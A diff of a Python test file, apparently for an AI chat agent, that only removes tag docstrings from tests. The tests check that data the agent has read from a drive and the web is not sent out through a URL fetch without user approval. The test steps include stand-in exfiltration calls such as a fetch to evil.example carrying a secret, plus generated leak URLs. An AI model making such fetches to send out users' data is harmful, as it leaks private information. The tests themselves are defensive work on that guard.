@@ -63,7 +63,6 @@ def _fetched(message: Any) -> parts.Part:
 async def test_what_was_read_does_not_leave_unless_it_is_allowed(
     crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox
 ) -> None:
-    """# 003-37"""
     await crew.of(1)
     chat_id, stopped = await _asked(ask, ada, DRIVE, WEB, _fetch("https://evil.example/?q=secret"), DONE)
     part = _fetched(stopped)
@@ -79,7 +78,6 @@ async def test_what_was_read_does_not_leave_unless_it_is_allowed(
 async def test_a_denial_sends_nothing_and_the_answer_goes_on(
     crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox
 ) -> None:
-    """# 003-37"""
     await crew.of(1)
     chat_id, stopped = await _asked(ask, ada, DRIVE, WEB, _fetch(_leak(sandbox)), DONE)
     part = _fetched(stopped)
@@ -93,7 +91,6 @@ async def test_a_denial_sends_nothing_and_the_answer_goes_on(
 
 
 async def test_an_approval_holds_for_one_call(crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox) -> None:
-    """# 003-37"""
     await crew.of(1)
     steps = (DRIVE, WEB, _fetch(_leak(sandbox)), _fetch(f"{_leak(sandbox)}&more"), DONE)
     chat_id, stopped = await _asked(ask, ada, *steps)
@@ -104,7 +101,6 @@ async def test_an_approval_holds_for_one_call(crew: Crew, ada: Actor, ask: Ask, 
 
 
 async def test_what_earlier_turns_have_read_counts(crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox) -> None:
-    """# 003-37"""
     await crew.of(1)
     chat_id, first = await _asked(ask, ada, DRIVE, DONE)
     assert first.status == "completed"
@@ -116,7 +112,6 @@ async def test_what_earlier_turns_have_read_counts(crew: Crew, ada: Actor, ask: 
 async def test_nobody_is_asked_where_only_one_of_both_was_read(
     crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox, read: dict[str, Any]
 ) -> None:
-    """# 003-37"""
     await crew.of(1)
     _, message = await _asked(ask, ada, read, _fetch(_leak(sandbox)), DONE)
     assert message.status == "completed"
@@ -124,7 +119,6 @@ async def test_nobody_is_asked_where_only_one_of_both_was_read(
 
 
 async def test_a_chat_may_go_without_asking(crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox) -> None:
-    """# 003-37"""
     await crew.of(1)
     chat_id = await chats.new(ada)
     await chats.set_approvals(ada, chat_id, False)
@@ -148,7 +142,7 @@ async def test_results_of_the_search_are_opened_without_a_question(
 async def test_workers_that_die_change_nothing_about_it(
     crew: Crew, ada: Actor, ask: Ask, sandbox: Sandbox, approved: bool
 ) -> None:
-    """While it waits, and after it was answered: the request is made once, or never. # 003-37"""
+    """While it waits, and after it was answered: the request is made once, or never."""
     await crew.of(2)
     steps = (DRIVE, WEB, _fetch(_leak(sandbox)), {"text": "On it goes. " * 60})
     chat_id, stopped = await _asked(ask, ada, *steps, model="sandbox:sandbox-script-20")
